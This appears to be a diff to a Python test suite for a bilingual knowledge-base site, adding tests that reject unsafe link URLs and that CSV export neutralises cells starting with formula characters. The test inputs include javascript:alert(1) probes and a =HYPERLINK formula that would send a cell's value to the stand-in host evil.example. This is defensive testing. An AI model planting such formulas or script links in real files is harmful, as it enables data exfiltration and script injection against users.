@@ -70,7 +70,7 @@ def test_addresses_we_publish(url: str) -> None:
         ("https://vm.fi/<x>", "angle bracket"),
         ("javascript:alert(1)", "must start with"),
         ("JaVaScRiPt:alert(1)", "must start with"),
-        ("data:text/html,<x>", "angle bracket"),
+        ("data:text/html,<x>", "must start with"),
         ("data:text/html,x", "must start with"),
         ("https://vm.fi/a b", "space"),
         ("https://vm.fi/\u202egnp.exe", "U+202E"),
@@ -181,3 +181,37 @@ def test_markdown_subset_renders_the_usual_formatting() -> None:
 def test_refused_markdown_renders_as_text() -> None:
     html = str(render("[x](javascript:alert(1))"))
     assert "href" not in html and html.startswith("<p>")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"x")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "＝1+1",
+    ],
+)
+def test_csv_cells_never_start_a_formula(small_yaml: str, text: str) -> None:
+    import csv
+    import io
+
+    import yaml
+
+    from kb_export import to_csv
+    from kb_records import build_site
+    from kb_strings import strings
+
+    data = yaml.safe_load(small_yaml)
+    data["records"][0]["title"] = {"fi": text, "sv": text}
+    data["records"][0]["summary"] = {"fi": "Tavallinen teksti", "sv": "- lista"}
+    site = build_site(data)
+    for lang in ("fi", "sv"):
+        rows = list(csv.reader(io.StringIO(to_csv(site, lang, "https://x.fi/", strings(lang)))))
+        cells = [cell for row in rows for cell in row]
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in cells)
+        assert "'" + text.strip() in [c.strip() for c in cells] or "'" + text in cells
+    assert "Tavallinen teksti" in to_csv(site, "fi", "https://x.fi/", strings("fi"))
